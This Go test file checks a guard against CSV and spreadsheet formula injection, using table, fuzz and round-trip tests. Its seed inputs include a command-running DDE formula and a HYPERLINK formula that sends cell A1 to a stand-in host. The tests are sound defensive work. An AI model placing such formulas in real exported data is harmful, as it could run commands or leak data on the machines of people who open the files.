package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestGuardCell(t *testing.T) {
	for s, want := range map[string]string{
		"":                           "",
		"reader@news.example":        "reader@news.example",
		"asked at the fair, 3 March": "asked at the fair, 3 March",
		"=1+1":                       "'=1+1",
		"+961 1 000 000":             "'+961 1 000 000",
		"-5":                         "'-5",
		"@SUM(A1)":                   "'@SUM(A1)",
		" =1+1":                      "' =1+1",
		"'=1+1":                      "''=1+1",
		"\"=1+1\"":                   "'\"=1+1\"",
		"x;=1+1":                     "x;'=1+1",
		"x,=1+1":                     "x,'=1+1",
		"\t=1+1":                     "'\t'=1+1",
		"＝1+1":                       "'＝1+1",
		"\u200e=1+1":                 "'\u200e=1+1",
		"'tis so":                    "'tis so",
	} {
		if got := guardCell(s); got != want {
			t.Errorf("guardCell(%q) = %q, want %q", s, got, want)
		}
		if got := bareCell(guardCell(s)); got != s {
			t.Errorf("%q comes back as %q", s, got)
		}
	}
}

// Nothing that a spreadsheet might take for a cell begins with a sign of calculation, and what
// was guarded comes back.
func FuzzGuardCell(f *testing.F) {
	for _, s := range append(injections(f), "=1+1", "x;=1+1", "\t=1+1", "'=1", "''", "a|'b", "=cmd|'/c x'!A") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			t.Skip("text is UTF-8 where it is stored")
		}
		guarded := guardCell(s)
		if got := bareCell(guarded); got != s {
			t.Errorf("%q, guarded as %q, comes back as %q", s, guarded, got)
		}
		for _, cell := range strings.FieldsFunc(guarded, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n", r) }) {
			if strings.IndexAny(strings.TrimLeft(cell, " \""), "=+-@＝＋－＠") == 0 {
				t.Errorf("%q, guarded as %q, calculates in %q", s, guarded, cell)
			}
		}
	})
}

// Whatever hides in a text, each row of a CSV stays one row of as many cells.
func TestGuardedCellsInCSV(t *testing.T) {
	for _, s := range injections(t) {
		var out bytes.Buffer
		w := csv.NewWriter(&out)
		if err := w.Write([]string{"a", guardCell(s), "z"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 1 || bareCell(rows[0][1]) != s {
			t.Errorf("%q comes back as %q, %v", s, rows, err)
		}
	}
}

// injections are the texts of the shared data, where it lies beside the repository.
func injections(tb testing.TB) []string {
	tb.Helper()
	raw, err := os.ReadFile(filepath.Join("../../../shared/data/security/csv-injection.txt"))
	if err != nil {
		return []string{"=HYPERLINK(\"https://press.example/?\"&A1)", "\r=1+1"}
	}
	var all []string
	for line := range strings.Lines(string(raw)) {
		var s string
		if json.Unmarshal([]byte(line), &s) == nil {
			all = append(all, s)
		}
	}
	return all
}
